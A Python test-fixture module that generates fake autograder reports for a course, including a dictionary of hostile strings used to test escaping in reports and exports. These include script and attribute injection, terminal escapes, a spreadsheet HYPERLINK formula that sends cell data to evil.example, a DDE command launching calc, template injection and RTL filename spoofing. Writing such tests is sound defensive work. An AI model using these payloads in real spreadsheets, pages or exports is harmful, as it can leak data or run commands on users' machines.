"""Classes made up for the tests of report, feedback and exports: every outcome, honest and hostile strings."""

from __future__ import annotations

import json
import random
from pathlib import Path

import msgspec

from autograder.records import CheckResult, Outcome, Report, part_result, write_report
from course.syllabus import topics

SEED = "5eed5eed5eed5eed5eed5eed5eed5eed"
NAMES = (
    "ana.lopez", "李雷", "Zoë Müller", "s1234567", "مريم", "o'brien", "Nguyễn Văn An", "björk@example.org", "d-e.f_g",
    "Ивана Петровна", "jean-luc", "kim", "אורי", "zz top", "very.long.name." + "x" * 60,
)  # fmt: skip
WRONG = (
    "the logits have another shape",
    "the loss is not finite at 1e4",
    "two variables did not change after a step",
    "the output moves when the padding changes",
)
ERRORS = (
    "InvalidArgumentError: Incompatible shapes: [2,64,64,3] vs. [2,32,32,3] [Op:AddV2]",
    "Traceback (most recent call last):\n  File \"fcn.ipynb, cell 12\", line 7, in fcn8s\n    x = Add()([x, skip])\n"
    "ValueError: Inputs have incompatible shapes. Received shapes (8, 8, 4) and (16, 16, 4)",
    "AttributeError: module 'keras' has no attribute 'reset_states'; Keras 3 dropped it",
)  # fmt: skip
MESSAGES: dict[Outcome, tuple[str, ...]] = {
    "passed": ("",),
    "failed": WRONG,
    "not_attempted": ("this part still raises NotImplementedError",),
    "error": ERRORS,
    "timeout": ("no answer within 20 s",),
    "crashed": ("killed by signal 9: more than 2048 MiB of memory",),
    "blocked": ("the sandbox refused to open a network connection",),
    "tampered": ("keras.Model.count_params was replaced while the submission ran",),
    "fault": ("the reference raised too: ResourceExhaustedError",),
}
HINTS = (
    "A segmentation model also scores the background: one channel more than there are classes.",
    "Compare a batch of one with a batch of many: the mean is over the batch.",
    "What happens on an odd height?",
    "Gradients at 0 are part of the contract.",
    "Leave the arguments as they came in.",
)
ASPECTS = ("returns_float32", "handles_an_odd_height", "keeps_its_arguments", "is_differentiable_at_zero")
HOSTILE = {
    "script": "<script>window.pwned = 1</script><img src=x onerror='window.pwned=2'>",
    "close": "</samp></details></main></body></html><h1>owned</h1>",
    "attribute": '" onmouseover="window.pwned=3" x=\'',
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x9b2J",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"grade")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "fullwidth": "＝1+1",
    "rtl": "abc\u202egpj.exe\u2066 \u200b\ufeff",
    "nul": "a\x00b\x07c\x7f\x85",
    "long": "x" * 10_000,
    "lines": "line\n" * 5_000,
    "zalgo": "Z" + "\u0301" * 500,
    "jinja": "{{ 7 * 7 }}{% raw %}{# no #}",
    "rich": "[bold red]big[/] [link=http://evil.example]x[/link] \\[a] [/]",
    "markdown": "[x](javascript:alert(1)) <b>&amp;&lt;</b>",
    "points": "Points Possible",
    "style": "</style><style>body{display:none}</style>",
}


def report(student: str, topic: str, chance: random.Random, skill: float, outcome: Outcome | None = None) -> Report:
    """One submission: parts of the syllabus (made-up ones for a topic it does not know), every check judged by luck."""
    parts = []
    for number, (name, points) in enumerate(_parts(topic)):
        stopped = chance.random() > skill + 0.45
        checks = []
        for place, aspect in enumerate(ASPECTS[: 2 + number % 3]):
            happened = outcome or _outcome(chance, skill - 0.06 * number, stopped)
            checks.append(
                CheckResult(
                    check=f"test_{name}_{aspect}",
                    points=points / len(ASPECTS[: 2 + number % 3]),
                    outcome=happened,
                    hint=HINTS[(number + place) % len(HINTS)],
                    message=chance.choice(MESSAGES[happened]),
                    seconds=round(chance.expovariate(20), 4),
                )
            )
        parts.append(part_result(name, checks))
    return Report(
        student=student,
        topic=topic,
        score=round(sum(part.score for part in parts), 6),
        max_score=round(sum(part.max_score for part in parts), 6),
        run_seed=SEED,
        parts=parts,
        submission_sha256=f"{chance.getrandbits(256):064x}",
        versions={"tensorflow": "2.21.0", "keras": "3.15.0", "python": "3.11.4"},
        seconds=round(chance.uniform(1, 6), 3),
        cpu_seconds=round(chance.uniform(1, 4), 3),
    )


def one_check(student: str, message: str, outcome: Outcome = "failed", hint: str = HINTS[0]) -> Report:
    """The smallest submission: one part, one check."""
    check = CheckResult(check="test_one", points=1.0, outcome=outcome, hint=hint, message=message, seconds=0.1)
    part = part_result("upsample_nearest", [check])
    return Report(
        student=student, topic="fcn", score=part.score, max_score=part.max_score, run_seed=SEED, parts=[part],
        submission_sha256="0" * 64, versions={}, seconds=1.0, cpu_seconds=1.0,
    )  # fmt: skip


def write_class(out: Path, students: int = 15, n_topics: int = 2, seed: int = 0, trouble: bool = True) -> list[Report]:
    """Grade a made-up class into OUT; with `trouble`, also problems, weak isolation and a fault."""
    chance = random.Random(seed)
    known = sorted((topic.name for topic in topics()), key=lambda name: name not in ("training_loop", "fcn"))[:n_topics]
    names = [*known, *(f"topic_{number:02d}" for number in range(len(known), n_topics))]
    reports = []
    for number in range(students):
        student = NAMES[number] if number < len(NAMES) else f"s{1000 + number}"
        skill = min(max(chance.gauss(0.78, 0.2), 0.1), 1.0)
        reports += [
            report(student, name, chance, skill) for name in names if chance.random() < 0.93 or name == names[0]
        ]
    if trouble and students > 3:
        reports[1] = report(reports[1].student, reports[1].topic, chance, 0.5, outcome="fault")
        tampered = chance.choice(reports[2:])
        reports.append(report("mallory", tampered.topic, chance, 0.3, outcome="tampered"))
        reports.append(report("trudy", tampered.topic, chance, 0.3, outcome="blocked"))
        reports.append(report("eve", tampered.topic, chance, 0.3, outcome="not_attempted"))
        reports.append(report("ada", tampered.topic, chance, 0.3, outcome="passed"))
    for entry in reports:
        write_report(out, entry)
    problems = [
        {"path": "submitted/carl/fcn.ipynb", "message": "not JSON: Expecting value: line 1 column 1 (char 0)"},
        {"path": "submitted/dora/fcn.ipynb", "message": "213 MB, and 20 MB is the most that is read"},
    ]
    batch = {
        "schema": 1,
        "run_seed": SEED,
        "started": "2025-11-23T04:20:00+00:00",
        "isolation": "process" if trouble else "full",
        "problems": problems if trouble else [],
    }
    (out / "batch.json").write_text(json.dumps(batch))
    return reports


def write_hostile_class(out: Path) -> list[Report]:
    """Everything a learner might put into a name or a message; in hints and problems too, to be sure."""
    (out / "reports").mkdir(parents=True)
    reports = []
    for number, (name, text) in enumerate(HOSTILE.items()):
        entry = one_check(
            text[:150], f"{text} after", ("failed", "error", "tampered", "fault", "blocked")[number % 5], text
        )
        reports.append(entry)
        path = out / "reports" / name / "fcn.json"
        path.parent.mkdir()
        path.write_bytes(msgspec.json.encode(entry))
    (out / "batch.json").write_text(
        json.dumps(
            {"isolation": HOSTILE["script"], "problems": [{"path": text, "message": text} for text in HOSTILE.values()]}
        )
    )
    return reports


def _parts(topic: str) -> list[tuple[str, float]]:
    for known in topics():
        if known.name == topic:
            return [(part.id, part.points) for part in known.parts]
    return [(f"{topic}_part_{letter}", 2.0) for letter in "abcde"]


def _outcome(chance: random.Random, skill: float, stopped: bool) -> Outcome:
    if stopped:
        return "not_attempted"
    if chance.random() < skill:
        return "passed"
    weights: dict[Outcome, int] = {"failed": 60, "error": 24, "not_attempted": 6, "timeout": 3, "crashed": 2}
    return chance.choices(list(weights), list(weights.values()))[0]
